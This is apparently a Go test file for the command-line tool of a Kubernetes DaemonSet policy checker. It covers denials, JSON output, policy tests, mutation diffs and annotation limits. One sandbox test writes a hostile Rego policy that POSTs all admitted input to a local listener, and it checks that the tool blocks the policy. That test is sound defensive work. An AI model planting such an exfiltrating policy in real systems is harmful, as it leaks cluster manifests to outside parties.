package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/daemonguard/daemonguard/internal/exitcode"
	"github.com/daemonguard/daemonguard/internal/policy"
)

// run executes the command tree like main does and returns stdout and the error.
func run(t *testing.T, stdin string, args ...string) (string, error) {
	t.Helper()
	cmd := New()
	var out bytes.Buffer
	cmd.SetOut(&out)
	cmd.SetErr(&out)
	cmd.SetIn(strings.NewReader(stdin))
	cmd.SetArgs(args)
	err := cmd.ExecuteContext(context.Background())
	return out.String(), err
}

func repo(parts ...string) string {
	return filepath.Join(append([]string{"..", ".."}, parts...)...)
}

const zeroBudget = `apiVersion: apps/v1
kind: DaemonSet
metadata: {name: frozen, namespace: ci}
spec:
  selector: {matchLabels: {app: frozen}}
  updateStrategy: {type: RollingUpdate, rollingUpdate: {maxUnavailable: 0, maxSurge: 0}}
  template:
    metadata: {labels: {app: frozen}}
    spec: {containers: [{name: a, image: a:1}]}
---
apiVersion: v1
kind: ConfigMap
metadata: {name: not-a-daemonset}
`

// markedDefaultNamespace is the Namespace default, marked for node agents.
const markedDefaultNamespace = `apiVersion: v1
kind: Namespace
metadata: {name: default, labels: {daemonguard.io/node-agents: "true"}}
`

func TestCheck(t *testing.T) {
	tests := map[string]struct {
		stdin      string
		args       []string
		wantDenied bool
		wantOut    []string
	}{
		// The allowed fixtures are checked as a user checks node agents: with the Namespace that
		// marks them (the seed tolerates the legacy control-plane taint, node_agent_grants).
		"every allowed fixture passes (warnings exit 0)": {
			stdin:   markedDefaultNamespace,
			args:    []string{"check", "-f", "-", "-f", repo("testdata", "policies", "allowed")},
			wantOut: []string{"7 DaemonSets checked: 0 denials, 1 warnings", "WARN", "[on_delete_managed]"},
		},
		"every denied fixture is denied": {
			args: []string{"check", "-f", repo("testdata", "policies", "denied")}, wantDenied: true,
			wantOut: []string{"DENY   " + repo("testdata", "policies", "denied", "zero-budget.yaml") + "#1 DaemonSet apps/frozen"},
		},
		// The API server itself rejects this budget, so in GitOps the sync would fail late;
		// check catches it in CI with file, object and field.
		"a zero budget from stdin is denied offline, other kinds are skipped": {
			stdin: zeroBudget, args: []string{"check", "-f", "-"}, wantDenied: true,
			wantOut: []string{"-#1 DaemonSet ci/frozen: [rolling_update_budget] spec.updateStrategy.rollingUpdate:", "1 DaemonSets checked: 1 denials"},
		},
		"an extra policy from --policies applies": {
			args:       []string{"check", "-f", repo("testdata", "demo", "nginx-ds.yaml"), "--policies", "testdata/extra-policies"},
			wantDenied: true, wantOut: []string{"[pinned_registry]"},
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			out, err := run(t, tc.stdin, tc.args...)
			if tc.wantDenied != IsReported(err) || (err != nil && !IsReported(err)) {
				t.Fatalf("err = %v, want denied: %v\n%s", err, tc.wantDenied, out)
			}
			for _, w := range tc.wantOut {
				if !strings.Contains(out, w) {
					t.Errorf("output lacks %q:\n%s", w, out)
				}
			}
		})
	}
}

func TestCheckJSON(t *testing.T) {
	out, err := run(t, zeroBudget, "check", "-f", "-", "-o", "json")
	if !IsReported(err) {
		t.Fatalf("err = %v", err)
	}
	var reports []checkReport
	if err := json.Unmarshal([]byte(out), &reports); err != nil {
		t.Fatalf("invalid JSON: %v\n%s", err, out)
	}
	if len(reports) != 1 || reports[0].Allowed || reports[0].Violations[0].Action != policy.Deny ||
		reports[0].Violations[0].Field != "spec.updateStrategy.rollingUpdate" {
		t.Errorf("reports = %+v", reports)
	}
}

func TestCheckReportsBrokenPolicyWithFileAndLine(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "bad.rego"), []byte("package daemonguard.policies.bad\n\nviolation contains x if {\n  x :=\n}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := run(t, "", "check", "-f", repo("testdata", "demo"), "--policies", dir)
	if err == nil || IsReported(err) || !strings.Contains(err.Error(), "bad.rego:") {
		t.Errorf("err = %v, want a parse error naming bad.rego and its line", err)
	}
}

func TestCheckRejectsBadInput(t *testing.T) {
	for name, args := range map[string][]string{
		"no -f":           {"check"},
		"missing file":    {"check", "-f", "does-not-exist.yaml"},
		"unknown output":  {"check", "-f", "-", "-o", "xml"},
		"malformed stdin": {"check", "-f", "-"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := run(t, "kind: [unclosed", args...)
			if err == nil || IsReported(err) {
				t.Errorf("err = %v, want a usage or input error", err)
			}
		})
	}
}

func TestMutateDiffIsEmptyOnSecondPass(t *testing.T) {
	// The seed runs in default, marked for node agents by a Namespace among the manifests.
	marked := filepath.Join(t.TempDir(), "namespace.yaml")
	if err := os.WriteFile(marked, []byte("apiVersion: v1\nkind: Namespace\nmetadata: {name: default, labels: {daemonguard.io/node-agents: \"true\"}}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	diff, err := run(t, "", "mutate", "--diff", "-f", marked, "-f", repo("testdata", "demo", "nginx-ds.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"+      priorityClassName: system-node-critical", "+        key: node-role.kubernetes.io/control-plane"} {
		if !strings.Contains(diff, want) {
			t.Errorf("diff lacks %q:\n%s", want, diff)
		}
	}
	mutated, err := run(t, "", "mutate", "-f", marked, "-f", repo("testdata", "demo", "nginx-ds.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	again, err := run(t, mutated, "mutate", "--diff", "-f", "-")
	if err != nil || again != "" {
		t.Errorf("second pass changed the admitted manifest (err %v):\n%s", err, again)
	}
}

func TestPolicyTest(t *testing.T) {
	out, err := run(t, "", "policy", "test")
	if err != nil || !strings.Contains(out, " passed, 0 failed") {
		t.Fatalf("built-in suite: %v\n%s", err, out)
	}

	out, err = run(t, "", "policy", "test", "testdata/extra-policies")
	if err != nil || !strings.Contains(out, "2 passed, 0 failed") {
		t.Errorf("extra policies suite: %v\n%s", err, out)
	}

	failing := t.TempDir()
	if err := os.WriteFile(filepath.Join(failing, "f_test.rego"), []byte("package daemonguard.policies.f_test\n\ntest_wrong if { 1 == 2 }\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out, err = run(t, "", "policy", "test", failing)
	if !IsReported(err) || !strings.Contains(out, "FAIL daemonguard.policies.f_test.test_wrong") {
		t.Errorf("failing suite: %v\n%s", err, out)
	}

	_, err = run(t, "", "policy", "test", t.TempDir())
	if !errors.Is(err, policy.ErrNoTests) {
		t.Errorf("empty dir: err = %v, want ErrNoTests", err)
	}
}

// A policy directory whose violation rule would POST the whole input to a listener is rejected by
// every command that loads policies from a directory, with file, line and the builtin, before
// anything is evaluated: the listener receives nothing. (`policy export` compiles only the inject
// policy and its library, in the same sandbox, and evaluates no validation policy.)
func TestPoliciesFromADirectoryRunInTheSandbox(t *testing.T) {
	var requests atomic.Int64
	listener := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		requests.Add(1)
		w.WriteHeader(http.StatusOK)
	}))
	defer listener.Close()
	dir := t.TempDir()
	exfil := fmt.Sprintf(`package daemonguard.policies.exfil

violation contains {"field": "metadata.name", "msg": "sent"} if {
	resp := http.send({"method": "POST", "url": %q, "body": input})
	resp.status_code == 200
}
`, listener.URL)
	if err := os.WriteFile(filepath.Join(dir, "exfil.rego"), []byte(exfil), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "exfil_test.rego"), []byte("package daemonguard.policies.exfil\n\ntest_sends if { count(violation) == 1 }\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	seed := repo("testdata", "demo", "nginx-ds.yaml")
	for name, args := range map[string][]string{
		"check --policies DIR":  {"check", "-f", seed, "--policies", dir},
		"mutate --policies DIR": {"mutate", "-f", seed, "--policies", dir},
		"policy test DIR":       {"policy", "test", dir},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := run(t, "", args...)
			want := "exfil.rego:4: rego_type_error: builtin http.send is not allowed in daemonguard policies"
			if err == nil || IsReported(err) || !strings.Contains(err.Error(), want) {
				t.Errorf("err = %v, want an error containing %q", err, want)
			}
			if n := requests.Load(); n > 0 {
				t.Errorf("the listener received %d requests", n)
			}
		})
	}
}

func TestExitCodePassesTheReportedCodeThrough(t *testing.T) {
	if ExitCode(exitcode.Error{Code: 3}) != 3 || ExitCode(nil) != 0 || ExitCode(errDenied) != 1 {
		t.Error("ExitCode does not pass exitcode.Error's code through")
	}
}

// daemonguard check meets an oversized annotation as the webhook does: one denial naming the
// annotation and its limit, and no policy evaluated (no other policy's violation).
func TestCheckDeniesAnOversizedAnnotationUnevaluated(t *testing.T) {
	manifest := strings.Replace(zeroBudget, "metadata: {name: frozen, namespace: ci}",
		`metadata: {name: frozen, namespace: ci, annotations: {daemonguard.io/steps: "`+strings.Repeat(",", 256<<10)+`"}}`, 1)
	out, err := run(t, manifest, "check", "-f", "-")
	if !IsReported(err) {
		t.Fatalf("err = %v\n%s", err, out)
	}
	for _, w := range []string{`[annotation_limits] metadata.annotations["daemonguard.io/steps"]: value is 262144 bytes, over the limit of 1024 bytes`, "1 DaemonSets checked: 1 denials"} {
		if !strings.Contains(out, w) {
			t.Errorf("output lacks %q:\n%.2000s", w, out)
		}
	}
	if strings.Contains(out, "[rolling_update_budget]") || len(out) > 4<<10 {
		t.Errorf("output of %d bytes names other policies or quotes the value; want the one denial:\n%.2000s", len(out), out)
	}
}
